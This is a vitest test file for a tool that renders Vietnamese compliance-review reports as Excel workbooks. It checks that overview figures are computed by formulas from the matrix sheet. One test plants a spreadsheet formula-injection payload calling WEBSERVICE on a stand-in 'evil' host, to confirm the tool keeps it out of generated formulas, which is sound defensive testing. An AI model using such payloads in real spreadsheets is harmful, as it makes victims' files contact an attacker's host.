import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import { columnLetters } from '../../src/desk/roster/Table.js';
import { sayIn } from '../../src/messages/Say.js';
import { renderReport } from '../../src/report/renderReport.js';
import { MatrixCells } from '../../src/report/xlsx/MatrixCells.js';
import { boardReport } from '../support/boardReport.js';
import { runRasoat } from '../support/runRasoat.js';

interface Counted {
  at: string;
  formula: string;
  value: string;
}

async function overview(report = boardReport(), language: 'vi' | 'en' = 'vi') {
  const context = { ...report.context, say: sayIn(language) };
  return counted((await renderReport('xlsx', context, report.plans, {}, report.totals)) as Uint8Array);
}

function counted(bytes: Uint8Array): Counted[] {
  const sheets = Object.values(unzipSync(bytes)).map((part) => strFromU8(part));
  const xml = sheets.find((part) => part.includes('tabSelected')) ?? '';
  const found = [...xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*><f>(.*?)<\/f><v>(.*?)<\/v><\/c>/g)];
  const plain = (text = '') => text.replaceAll('&quot;', '"').replaceAll('&amp;', '&');
  return found.map(([, at = '', formula, value]): Counted => ({ at, formula: plain(formula), value: plain(value) }));
}

/** A formula without what ours are made of: names of functions, places, numbers, signs, and the words of the report. */
function foreign(formula: string, language: 'vi' | 'en'): string {
  const { labels, district, board, workbook } = sayIn(language);
  const own = [
    ...Object.values(labels.statuses),
    ...Object.values(labels.verdicts),
    ...Object.values(labels.weights),
    ...Object.values(district.columns),
    ...[board.opinions.met, board.opinions.unmet].map(workbook.reviewed),
    '–',
    '/',
  ];
  return formula
    .replaceAll(`'${workbook.sheets.matrix}'!`, '')
    .replace(/"([^"]*)"/g, (quoted, word: string) => (own.includes(word) ? '' : quoted))
    .replace(/\b(?:COUNTIF|SUMPRODUCT|EXACT|IFERROR|IF|VALUE|LEFT|MID|FIND|SUM)\(/g, '(')
    .replace(/\$?[A-Z]{1,2}\$?\d+/g, '')
    .replace(/[\d()*/+\-=&:,]/g, '');
}

describe('figures of the overview are counted from the matrix', () => {
  const usual = overview();

  test.each(['vi', 'en'] as const)('by formulas of our own words and places (%s)', async (language) => {
    const cells = language === 'vi' ? await usual : await overview(boardReport(), language);
    expect(cells.length).toBeGreaterThan(100);
    for (const { formula, at } of cells) expect(foreign(formula, language), at).toBe('');
  });

  test('with the figures of the totals beside them', async () => {
    const { totals } = boardReport();
    const cells = await usual;
    const { plans, requirements } = totals.summary;
    const of = (formula: RegExp) => cells.filter((cell) => formula.test(cell.formula)).map(({ value }) => value);
    expect(of(/^COUNTIF\('Ma trận'!\$F\$8:\$F\$\d+,"đạt"\)$/)).toEqual([String(plans.compliant)]);
    expect(of(/^COUNTIF\('Ma trận'!\$G\$8:\$(?!G\$)[A-Z]+\$\d+,"đạt"\)$/)).toEqual([String(requirements.met)]);
    expect(of(/^IF\(\(COUNTIF\('Ma trận'!\$G\$8:\$(?!G\$)[A-Z]+\$/)).toEqual([`${totals.all.met}/${totals.all.of}`]);
  });

  test('no text of a plan or roster stands in a formula', async () => {
    const report = boardReport();
    const evil = '"&WEBSERVICE("http://evil")&"';
    for (const standing of report.totals.standing) if (standing.by === 'parent') standing.key = `=${evil}`;
    for (const { assessment } of report.plans) if (assessment.listed) assessment.listed.parent = `=${evil}`;
    for (const row of report.totals.byUnit) row.parent = `=${evil}`;
    const cells = await overview(report);
    expect(cells.some(({ formula }) => formula.includes('EXACT'))).toBe(true);
    for (const { formula } of cells) expect(foreign(formula, 'vi')).toBe('');
  });

  test('what the matrix does not come to stays a number', async () => {
    const report = boardReport();
    const { summary } = report.totals;
    const cells = await overview({
      ...report,
      totals: { ...report.totals, summary: { ...summary, plans: { ...summary.plans, compliant: 9999 } } },
    });
    expect(cells.filter(({ formula }) => /^COUNTIF\('Ma trận'!\$F\$8:\$F\$\d+,"đạt"\)$/.test(formula))).toEqual([]);
  });
});

test('units of the roster are counted too, in all and by group', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'rasoat-counts-'));
  const file = join(folder, 'so.xlsx');
  await runRasoat(['check', '--config', 'examples/rasoat.yaml', '--fail-on', 'never', '-o', `xlsx:${file}`]);
  const bytes = new Uint8Array(readFileSync(file));
  rmSync(folder, { recursive: true, force: true });
  const rows = (await readXlsx(bytes)).sheets[0]?.rows ?? [];
  const formulas = new Map(counted(bytes).map(({ at, formula }) => [at, formula]));
  // What stands in the cells of a row, with its formulas.
  const cellsOf = (row: number) =>
    (rows[row] ?? []).map((cell, i) => [cell, formulas.get(`${columnLetters(i)}${row + 1}`)] as const);
  const first = rows.findIndex(([what]) => what === 'Đơn vị trong danh sách');
  const absent = /^COUNTIF\(.*"Đã gửi, chưa dùng được"\).*"Chưa gửi, quá hạn"\).*"Đã kết thúc, chưa từng gửi"\)$/;
  const figures = [0, 1, 2, 3].map((i) => cellsOf(first + i)[2]);
  expect(figures.map((cell) => cell?.[0])).toEqual([19, 14, 5, 3]);
  expect(figures.map((cell) => cell?.[1])).toEqual([
    expect.stringMatching(/^C\d+$/),
    expect.stringMatching(/^C\d+-\(COUNTIF\(/),
    expect.stringMatching(absent),
    expect.stringMatching(/^COUNTIF\('Ma trận'!\$F\$8:\$F\$\d+,"Chưa gửi, quá hạn"\)$/),
  ]);
  const titles = ['Tổng hợp theo địa bàn', 'Tổng hợp theo loại đơn vị'];
  const groups = titles.map((title) => rows.findIndex(([cell]) => cell === title) + 2);
  for (const at of groups)
    for (const column of [3, 4])
      expect(cellsOf(at)[column]?.[1], String(at)).toMatch(/^SUMPRODUCT\(EXACT\(.*"Chưa gửi, quá hạn"/);
  expect(
    cellsOf(groups[0] ?? 0)
      .slice(1, 5)
      .map(([value]) => value),
  ).toEqual(['Huyện Sông Thương', 8, 4, 2]);
});

test('units without a district are counted by formulas, too, and no plan of no unit with them', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'rasoat-counts-'));
  const put = (name: string, text: string) => writeFileSync(join(folder, name), text);
  const plan = (name: string) => `đơn vị:\n  tên: ${name}\n  loại: Hội Nông dân\n  cấp: xã\n`;
  put(
    'ds.csv',
    'code;name;type;level;parent\nA;Hội Nông dân xã Một;farmers-union;commune;Huyện X\nB;Hội Nông dân xã Hai;farmers-union;commune;\n',
  );
  for (const [i, name] of ['Một', 'Hai', 'Ba'].entries()) put(`${i}.yaml`, plan(`Hội Nông dân xã ${name}`));
  const run = ['--roster', 'ds.csv', '--as-of', '2022-06-30', '--fail-on', 'never', '-o', 'xlsx:so.xlsx'];
  await runRasoat(['check', ...run], { cwd: folder });
  const bytes = new Uint8Array(readFileSync(join(folder, 'so.xlsx')));
  rmSync(folder, { recursive: true, force: true });
  const { sheets } = await readXlsx(bytes);
  const matrix = sheets.find(({ name }) => name === 'Ma trận')?.rows ?? [];
  expect(matrix.slice(-3).map((row) => [row[1], row[4] ?? ''])).toEqual([
    ['Hội Nông dân xã Một', 'Huyện X'],
    ['Hội Nông dân xã Hai', 'Không ghi địa bàn'],
    ['Hội Nông dân xã Ba', ''],
  ]);
  const formulas = new Set(counted(bytes).map(({ at }) => at));
  const rows = sheets[0]?.rows ?? [];
  const without = rows.flatMap((row, i) => (row[1] === 'Không ghi địa bàn' ? [i] : []));
  expect(without).toHaveLength(2);
  for (const row of without)
    for (const [i, cell] of (rows[row] ?? []).entries())
      if (i > 1 && typeof cell === 'number')
        expect(formulas.has(`${columnLetters(i)}${row + 1}`), `${i} ${row}`).toBe(true);
});

test('when the overview is printed each page of its last table has the heads', async () => {
  const { context, plans, totals } = boardReport();
  const parts = unzipSync((await renderReport('xlsx', context, plans, {}, totals)) as Uint8Array);
  const [, row] =
    /Print_Titles" localSheetId="0">'Tổng hợp'!\$(\d+):/.exec(
      strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array()),
    ) ?? [];
  const rows = (await readXlsx((await renderReport('xlsx', context, plans, {}, totals)) as Uint8Array)).sheets[0]?.rows;
  expect(rows?.[Number(row) - 1]?.slice(0, 2)).toEqual(['Yêu cầu', 'Nội dung yêu cầu']);
});

describe('the cells of the matrix', () => {
  const line = (parent: string, verdict: string, ...results: string[]) => ({
    parent,
    type: 'T',
    level: 'L',
    verdict,
    results,
  });
  const layout = {
    sheet: "It's",
    weightRow: 4,
    firstRow: 8,
    columns: { type: 2, level: 3, parent: 4, verdict: 5, results: 6 },
    requirements: [
      { id: '1.a', weight: 'decides' },
      { id: '1.b', weight: 'note' },
    ],
    lines: [line('A', 'met', 'met', 'unmet'), line('a', 'met', 'met', 'met'), line('A', 'unmet', 'unmet', 'met')],
  };
  const cells = new MatrixCells(layout);
  const group = { parent: { at: '$B9', text: 'A' } };

  test.each([
    ['a verdict', cells.verdicts(['met']), "COUNTIF('It''s'!$F$8:$F$10,\"met\")", 2],
    [
      'a verdict of a district, whose name is only its own',
      cells.verdicts(['met'], group),
      "SUMPRODUCT(EXACT('It''s'!$E$8:$E$10,$B9)*(('It''s'!$F$8:$F$10=\"met\")))",
      1,
    ],
    ['results', cells.results({ words: ['met'] }), "COUNTIF('It''s'!$G$8:$H$10,\"met\")", 4],
    [
      'results of a requirement',
      cells.results({ words: ['met', 'unmet'], requirement: '1.b' }),
      "COUNTIF('It''s'!$H$8:$H$10,\"met\")+COUNTIF('It''s'!$H$8:$H$10,\"unmet\")",
      3,
    ],
    [
      'results of a weight, in a district',
      cells.results({ words: ['met'], weight: 'decides', group }),
      "SUMPRODUCT(EXACT('It''s'!$E$8:$E$10,$B9)*('It''s'!$G$4:$H$4=\"decides\")*(('It''s'!$G$8:$H$10=\"met\")))",
      1,
    ],
    [
      'nothing of a weight that the requirement has not',
      cells.results({ words: ['met'], requirement: '1.b', weight: 'decides' }),
      undefined,
      undefined,
    ],
  ])('%s', (_, count, formula, result) => {
    expect(count).toEqual(formula === undefined ? undefined : { formula, result });
  });

  test('of very many units results by district are no formulas: each edit would count them all again', () => {
    const many = new MatrixCells({
      ...layout,
      lines: Array.from({ length: 80_000 }, () => line('A', 'met', 'met', 'met')),
    });
    expect(many.results({ words: ['met'], group })).toBeUndefined();
    expect(many.results({ words: ['met'] })?.result).toBe(160_000);
  });
});
